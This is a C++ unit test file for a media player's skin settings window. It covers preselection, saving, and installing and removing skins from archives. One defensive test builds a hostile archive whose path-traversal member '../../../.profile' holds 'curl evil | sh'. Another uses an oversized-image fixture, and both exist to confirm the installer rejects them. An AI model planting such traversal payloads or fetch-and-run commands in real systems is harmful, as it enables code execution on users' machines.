// The settings window over the skin list: what it preselects, what OK, Cancel and the close button do.
#include "windows/SettingsWindow.h"
#include "core/Failure.h"
#include "core/modINI.h"
#include "support/ArchiveMaker.h"
#include "support/FakeHost.h"
#include "support/FakeSkinTargets.h"
#include "support/Files.h"
#include "support/HostilePictures.h"
#include "support/ProgramFolderFixture.h"

#include <QApplication>
#include <QContextMenuEvent>
#include <QDir>
#include <QFile>
#include <QKeyEvent>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <gtest/gtest.h>
#include <memory>

using namespace zendrix;
using namespace zendrix::testing;

namespace {

const QString kOkQuestion = "Are you sure you want to start the changes you made?";

class SettingsWindowTest : public ::testing::Test
{
protected:
    ProgramFolderFixture folder;
    FakeSkinTargets targets;
    FakeMessageBoxes messages;
    FakeProgramExit exit;
    FakeFileDialogs dialogs;
    FakeShell shell;

    void SetUp() override
    {
        folder.writeSkin("Night", QColor(200, 30, 30), QColor(30, 200, 30));
        listSkins("Zendrix\r\nNight\r\n");
    }
    void listSkins(const QByteArray& bytes) { folder.writeText("/Data/Skins/skins.lst", bytes); }
    std::unique_ptr<SettingsWindow> open()
    {
        return std::make_unique<SettingsWindow>(targets, messages, exit, dialogs, shell);
    }
    // Picks an entry and answers Yes to OK.
    void choose(SettingsWindow& window, int row)
    {
        window.lstSkin->setCurrentRow(row);
        messages.answers = {MessageAnswer::Yes};
        window.cmdOk_Click();
    }
    QString storedSkin() const { return ReadINI(ConfigPath, "Skin", "Skin", "<missing>"); }
    static QStringList entries(const SettingsWindow& window)
    {
        QStringList names;
        for (int row = 0; row < window.lstSkin->count(); ++row)
            names << window.lstSkin->item(row)->text();
        return names;
    }
    // A zip of a skin in two colours, as a user downloads one.
    QString skinArchive(const QString& name, const QColor& background, const QColor& title = Qt::blue)
    {
        const QString path = downloads.filePath(name + ".zip");
        EXPECT_TRUE(writeArchive(path, ArchiveFormat::Zip,
                                 {{name + "/zendrix.zsk", encodedPicture("JPEG", QSize(425, 71), background)},
                                  {name + "/title.zsk", encodedPicture("JPEG", QSize(425, 28), title)}}));
        return path;
    }
    // Whether the menu offers Remove for the entry at `row`.
    bool removable(SettingsWindow& window, int row)
    {
        window.lstSkin->setCurrentRow(row);
        window.popupSkinMenu(QPoint(0, 0));
        window.mnuSkin->hide();
        return window.mnuRemove->isEnabled();
    }
    QTemporaryDir downloads;
};

TEST_F(SettingsWindowTest, PreselectsTheLastExactMatchOrElseTheFirstEntry)
{
    const struct
    {
        const char* configured; // nullptr: no "Skin" key
        QByteArray list;
        int row;
    } cases[] = {
        {"Night", "Zendrix\r\nNight\r\n", 1},
        {nullptr, "Night\r\nZendrix\r\n", 1},          // the default skin
        {"Gone", "Zendrix\r\nNight\r\n", 0},           // not listed
        {"Night", "Night\r\nZendrix\r\nNight\r\n", 2}, // listed twice: the later line
        {"Night", "Zendrix\r\nnight\r\nNIGHT\r\n", 0}, // letter case counts
    };
    for (const auto& c : cases) {
        QFile::remove(ConfigPath);
        if (c.configured)
            WriteINI(ConfigPath, "Skin", "Skin", c.configured);
        listSkins(c.list);
        EXPECT_EQ(open()->lstSkin->currentRow(), c.row) << c.list.toStdString();
    }
    listSkins("");
    EXPECT_THROW(open(), Failure);
    EXPECT_TRUE(targets.pictures.empty()); // selecting does nothing of its own
}

TEST_F(SettingsWindowTest, OkStoresTheChoiceReskinsEveryWindowAndTheNextOpeningPreselectsIt)
{
    auto window = open();
    choose(*window, 1);
    EXPECT_EQ(storedSkin(), "Night");
    EXPECT_EQ(targets.targets(), (QStringList{"main", "playlist", "settings", "info", "title"}));
    EXPECT_TRUE(closeTo(targets.pictures.at(2).centre, QColor(200, 30, 30)));
    EXPECT_EQ(messages.texts(), (QStringList{kOkQuestion, "Changes saved successfully"}));
    EXPECT_EQ(messages.shown.at(1).icon, MessageIcon::Information);
    EXPECT_TRUE(window->isClosed());
    EXPECT_EQ(exit.ended, 0);
    EXPECT_EQ(open()->lstSkin->currentRow(), 1);
}

TEST_F(SettingsWindowTest, NoToAnyQuestionChangesNothingAndYesToCancelOrCloseSavesNothing)
{
    WriteINI(ConfigPath, "Skin", "Skin", "Zendrix");
    const auto window = open();
    window->lstSkin->setCurrentRow(1);
    window->cmdOk_Click();
    window->cmdCancel_Click();
    window->cmdExit_Click();
    EXPECT_EQ(messages.shown.size(), 3u);
    for (const ShownMessage& shown : messages.shown)
        EXPECT_EQ(shown.buttons, MessageButtons::YesNo);
    EXPECT_FALSE(window->isClosed());
    for (auto click : {&SettingsWindow::cmdCancel_Click, &SettingsWindow::cmdExit_Click}) {
        const auto other = open();
        other->lstSkin->setCurrentRow(1);
        messages.answers = {MessageAnswer::Yes};
        (other.get()->*click)();
        EXPECT_TRUE(other->isClosed());
    }
    EXPECT_EQ(storedSkin(), "Zendrix");
    EXPECT_TRUE(targets.pictures.empty());
}

TEST_F(SettingsWindowTest, AnEmptyEntryOkdTakesTheSkinFailurePath)
{
    listSkins("Zendrix\r\n\r\nNight\r\n");
    choose(*open(), 1);
    ASSERT_EQ(messages.shown.size(), 2u);
    EXPECT_EQ(messages.shown[1].text, "Critical error while loading settings!\r\nFile not found: '" +
                                          folder.file("/Data/Skins//zendrix.zsk") +
                                          "'\r\nCalibrating skin settings. Please restart the player");
    EXPECT_EQ(storedSkin(), "Zendrix");
    EXPECT_EQ(exit.ended, 1);
}

TEST_F(SettingsWindowTest, ASettingThatCannotBeSavedIsReportedNotAppliedAsASuccess)
{
    folder.writeText("/blocker", "a file where the configuration folder should be");
    ConfigPath = folder.file("/blocker/config.ini");
    const auto window = open();
    choose(*window, 1);
    EXPECT_EQ(messages.texts().last(), "Error!\r\nThe setting could not be saved to '" + ConfigPath + "'");
    EXPECT_TRUE(targets.pictures.empty());
    EXPECT_FALSE(window->isClosed());
}

TEST_F(SettingsWindowTest, TheUsersSkinsFollowTheListedOnesByNameAndOneOfAListedNameIsListedOnce)
{
    folder.writeUserSkin("Zeta", QColor(30, 30, 200), Qt::white);
    folder.writeUserSkin("alpha", QColor(30, 200, 200), Qt::white);
    folder.writeUserSkin("Night", QColor(200, 200, 30), Qt::white);
    WriteINI(ConfigPath, "Skin", "Skin", "alpha");
    auto window = open();
    EXPECT_EQ(entries(*window), (QStringList{"Zendrix", "Night", "alpha", "Zeta"}));
    EXPECT_EQ(window->lstSkin->currentRow(), 2);
    choose(*window, 1);
    EXPECT_TRUE(closeTo(targets.pictures.at(0).centre, QColor(200, 200, 30))) << "the user's Night";
}

TEST_F(SettingsWindowTest, ADroppedSkinIsInstalledListedAndSelectedSoOkAppliesItAndAnotherOpeningStillListsIt)
{
    auto window = open();
    window->installSkins({skinArchive("Moss", QColor(40, 160, 60))});
    EXPECT_TRUE(messages.shown.empty()) << messages.texts().join('|').toStdString();
    EXPECT_EQ(entries(*window), (QStringList{"Zendrix", "Night", "Moss"}));
    EXPECT_EQ(window->lstSkin->currentItem()->text(), "Moss");
    EXPECT_TRUE(QFileInfo(folder.userSkins() + "/Moss/title.zsk").isFile());
    messages.answers = {MessageAnswer::Yes};
    window->cmdOk_Click();
    EXPECT_EQ(storedSkin(), "Moss");
    EXPECT_TRUE(closeTo(targets.pictures.at(0).centre, QColor(40, 160, 60)));
    EXPECT_EQ(open()->lstSkin->currentItem()->text(), "Moss");
}

TEST_F(SettingsWindowTest, ARefusedSkinGivesOneMessageSayingWhyAndWritesNothing)
{
    const QString hostile = downloads.filePath("Evil.tar.gz");
    ASSERT_TRUE(writeArchive(hostile, ArchiveFormat::TarGz,
                             {{"zendrix.zsk", encodedPicture("JPEG")},
                              {"title.zsk", encodedPicture("JPEG")},
                              {"../../../.profile", "curl evil | sh"}}));
    const QString huge = downloads.filePath("Huge.zip");
    ASSERT_TRUE(writeArchive(
        huge, ArchiveFormat::Zip,
        {{"zendrix.zsk", pngDeclaring(QSize(60000, 60000))}, {"title.zsk", encodedPicture("PNG")}}));
    auto window = open();
    const QStringList before = entries(*window);
    window->installSkins({hostile, huge});
    EXPECT_EQ(messages.texts(),
              (QStringList{"Error!\r\nThe skin \"Evil\" cannot be installed.\r\n"
                           "The archive holds a member outside its folder: '../../../.profile'",
                           "Error!\r\nThe skin \"Huge\" cannot be installed.\r\n"
                           "\"zendrix.zsk\": Picture larger than 4096 x 4096 pixels"}));
    EXPECT_EQ(messages.shown.at(0).icon, MessageIcon::Critical);
    EXPECT_FALSE(QFileInfo::exists(folder.userSkins()));
    EXPECT_EQ(entries(*window), before);
}

TEST_F(SettingsWindowTest, InstallingOverAListedNameAsksFirst)
{
    folder.writeUserSkin("Moss", QColor(200, 30, 30), Qt::white);
    auto window = open();
    const QString archive = skinArchive("Moss", QColor(40, 160, 60));
    window->installSkins({archive});                          // No: nothing changes
    window->installSkins({skinArchive("Night", Qt::yellow)}); // No again, over a shipped name
    ASSERT_EQ(messages.texts(),
              (QStringList{"A skin named \"Moss\" is already installed.\r\nDo you want to replace it?",
                           "A skin named \"Night\" is already installed.\r\nDo you want to replace it?"}));
    EXPECT_EQ(messages.shown.at(0).buttons, MessageButtons::YesNo);
    EXPECT_FALSE(QFileInfo::exists(folder.userSkins() + "/Night"));
    messages.answers = {MessageAnswer::Yes};
    window->installSkins({archive});
    EXPECT_EQ(entries(*window), (QStringList{"Zendrix", "Night", "Moss"}));
    window->lstSkin->setCurrentRow(2);
    messages.answers = {MessageAnswer::Yes};
    window->cmdOk_Click();
    EXPECT_TRUE(closeTo(targets.pictures.at(0).centre, QColor(40, 160, 60)));
}

TEST_F(SettingsWindowTest, RemoveTakesOnlyTheUsersSkinsAndNeverTheOneInUse)
{
    folder.writeUserSkin("Moss", QColor(40, 160, 60), Qt::white);
    folder.writeUserSkin("Rust", QColor(160, 60, 40), Qt::white);
    folder.writeUserSkin("Night", QColor(200, 200, 30), Qt::white); // in the shipped Night's place
    WriteINI(ConfigPath, "Skin", "Skin", "Rust");
    auto window = open();
    ASSERT_EQ(entries(*window), (QStringList{"Zendrix", "Night", "Moss", "Rust"}));
    EXPECT_FALSE(removable(*window, 0)) << "shipped";
    EXPECT_TRUE(removable(*window, 1)) << "the user's Night";
    EXPECT_TRUE(removable(*window, 2));
    EXPECT_FALSE(removable(*window, 3)) << "in use";
    window->mnuRemove_Click(); // a stale call on the skin in use
    EXPECT_TRUE(messages.shown.empty());

    window->lstSkin->setCurrentRow(2);
    window->mnuRemove_Click(); // No
    EXPECT_TRUE(QFileInfo::exists(folder.userSkins() + "/Moss"));
    messages.answers = {MessageAnswer::Yes};
    window->mnuRemove_Click();
    EXPECT_EQ(messages.texts().last(), "Are you sure you want to remove the skin \"Moss\"?");
    EXPECT_FALSE(QFileInfo::exists(folder.userSkins() + "/Moss"));
    EXPECT_EQ(entries(*window), (QStringList{"Zendrix", "Night", "Rust"}));
    EXPECT_EQ(window->lstSkin->currentRow(), 2) << "back on the skin in use";

    // Removing the user's Night brings the shipped one back into its place.
    window->lstSkin->setCurrentRow(1);
    messages.answers = {MessageAnswer::Yes};
    window->mnuRemove_Click();
    EXPECT_EQ(entries(*window), (QStringList{"Zendrix", "Night", "Rust"}));
    EXPECT_FALSE(removable(*window, 1));
}

TEST_F(SettingsWindowTest, InstallAsksForAnArchiveOrFolderAndOpenFolderMakesTheFolderFirst)
{
    auto window = open();
    window->mnuInstall_Click(); // cancelled
    dialogs.answers = {skinArchive("Moss", QColor(40, 160, 60))};
    window->mnuInstall_Click();
    ASSERT_EQ(dialogs.requests.size(), 2u);
    EXPECT_EQ(dialogs.requests[0].kind, DialogRequest::OpenFileOrFolder);
    EXPECT_EQ(dialogs.requests[0].title, "Install Skin");
    EXPECT_TRUE(dialogs.requests[0].filter.startsWith(
        "Skin Archives (*.zip;*.tar.gz;*.tar.xz)|*.zip;*.tar.gz;*.tar.xz|"));
    EXPECT_EQ(window->lstSkin->currentItem()->text(), "Moss");

    QDir(folder.userSkins()).removeRecursively();
    window->mnuOpenFolder_Click();
    EXPECT_TRUE(QFileInfo(folder.userSkins()).isDir());
    EXPECT_EQ(shell.opened, QStringList{folder.userSkins()});
    EXPECT_TRUE(messages.shown.empty());
    shell.openResult = false;
    window->mnuOpenFolder_Click();
    EXPECT_EQ(messages.texts(),
              QStringList{"Error!\r\nNo program could open the folder '" + folder.userSkins() + "'"});
}

TEST_F(SettingsWindowTest, TheListsMenuOpensByRightClickMenuKeyAndShiftF10WithOneMnemonicEach)
{
    auto window = open();
    window->show();
    window->lstSkin->setFocus();
    const QPoint corner = window->lstSkin->viewport()->mapToGlobal(QPoint(5, 5));
    QContextMenuEvent click(QContextMenuEvent::Mouse, QPoint(5, 5), corner);
    QContextMenuEvent menuKey(QContextMenuEvent::Keyboard, QPoint(0, 0), corner);
    QKeyEvent shiftF10(QEvent::KeyPress, Qt::Key_F10, Qt::ShiftModifier);
    QKeyEvent plainF10(QEvent::KeyPress, Qt::Key_F10, Qt::NoModifier);
    const std::pair<QWidget*, QEvent*> ways[] = {
        {window->lstSkin->viewport(), &click}, {window->lstSkin, &menuKey}, {window->lstSkin, &shiftF10}};
    for (const auto& [widget, event] : ways) {
        QApplication::sendEvent(widget, event);
        EXPECT_TRUE(window->mnuSkin->isVisible()) << event->type();
        window->mnuSkin->hide();
    }
    QApplication::sendEvent(window->lstSkin, &plainF10);
    EXPECT_FALSE(window->mnuSkin->isVisible());

    QStringList mnemonics;
    for (const QAction* action : window->mnuSkin->actions()) {
        const auto match = QRegularExpression("&(.)").match(action->text());
        ASSERT_TRUE(match.hasMatch()) << action->text().toStdString();
        mnemonics << match.captured(1).toLower();
    }
    mnemonics.removeDuplicates();
    EXPECT_EQ(mnemonics.size(), 3);
    EXPECT_EQ(window->mnuInstall->text(), "&Install Skin\u2026");
}

} // namespace
